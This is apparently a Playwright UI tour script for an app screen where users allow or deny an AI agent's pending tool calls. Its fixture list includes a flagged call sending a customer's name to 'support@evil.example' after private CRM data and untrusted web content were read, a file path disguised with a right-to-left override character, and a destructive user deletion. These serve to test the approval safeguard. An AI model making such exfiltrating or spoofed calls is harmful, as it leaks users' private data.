// Stops of the tour about several questions of one agent at once.
import type { Page } from "playwright";
import type { Matter } from "../../electron/core/permission/questions.ts";
import { full, type Stop } from "./tour-base.ts";
import { asks, subject } from "./tour-policy.ts";

const at = "2026-11-28T12:00:00.000Z";
const hash = (n: number): string => n.toString(16).padStart(64, "0");

/** A burst as agents make them: some plain, one long, one new, one that cannot be taken back, one that could leak. */
export const BURST: readonly Matter[] = [
  asks({ argumentsHash: hash(1) }),
  asks({
    argumentsHash: hash(2),
    tool: "read_note",
    argumentsText: JSON.stringify({ path: "notes/2026/\u202Egnp.md", raw: true }),
    server: { ...subject().server, id: "srv_000000000002", name: "notes", stage: "development" },
    account: null,
  }),
  asks({
    argumentsHash: hash(3),
    tool: "create_issue",
    argumentsText: JSON.stringify({ repo: "acme/app", title: "Crash", body: "word ".repeat(120) }),
  }),
  asks({ argumentsHash: hash(4), tool: "list_teams", toolStanding: "new", argumentsText: "{}" }),
  asks(
    {
      argumentsHash: hash(5),
      tool: "delete_user",
      destructive: true,
      argumentsText: JSON.stringify({ user_id: "12345" }),
    },
    ["built-in/destructive"],
  ),
  {
    kind: "call",
    subject: subject({
      argumentsHash: hash(6),
      tool: "post_message",
      argumentsText: JSON.stringify({ to: "support@evil.example", text: "Jane Doe" }),
    }),
    rules: ["built-in/lethal-trifecta"],
    trifecta: [
      { label: "private", by: { server: "crm", tool: "read_customer", at } },
      { label: "untrusted", by: { server: "web", tool: "fetch_page", at } },
      { label: "egress", by: null },
    ],
  },
];

/** The row of this tool. */
export const rowOf = (page: Page, tool: string) =>
  page
    .getByRole("listitem")
    .filter({ has: page.locator(".ask-tool", { hasText: tool }) })
    .first();
export const choose = (page: Page, tool: string, name: string): Promise<void> =>
  rowOf(page, tool).getByRole("button", { name, exact: true }).click();

const listed = (page: Page): Promise<void> =>
  page.getByRole("list", { name: "What the agent wants to do" }).waitFor();

const STOPS: readonly Stop[] = [
  {
    name: "ask-burst",
    world: () => full({ asked: [...BURST] }),
    async go(page) {
      await listed(page);
      await choose(page, "search_contacts", "Allow");
      await choose(page, "read_note", "Deny");
      await page.waitForTimeout(700);
    },
  },
  {
    name: "ask-burst-end",
    world: () => full({ asked: [...BURST] }),
    async go(page) {
      await listed(page);
      await choose(page, "search_contacts", "Allow");
      await choose(page, "delete_user", "Deny");
      await page.waitForTimeout(700);
      await page.getByRole("button", { name: "Allow 1 once, deny 1" }).click();
      await page.getByText("Allowed once").waitFor();
      await rowOf(page, "post_message").scrollIntoViewIfNeeded();
    },
  },
  {
    name: "ask-burst-open",
    world: () => full({ asked: BURST.slice(0, 4) }),
    async go(page) {
      await listed(page);
      await choose(page, "create_issue", "Show in full");
      await choose(page, "create_issue", "Allow");
      await page.waitForTimeout(700);
    },
  },
  {
    name: "ask-burst-alone",
    world: () => full({ asked: [...BURST] }),
    async go(page) {
      await listed(page);
      await choose(page, "delete_user", "Open");
      await page.getByLabel("The tool's name").waitFor();
      await page.waitForTimeout(700);
    },
  },
];

export const BURST_STOPS: readonly Stop[] = STOPS.map((stop) => ({ ...stop, surface: "approval" }));
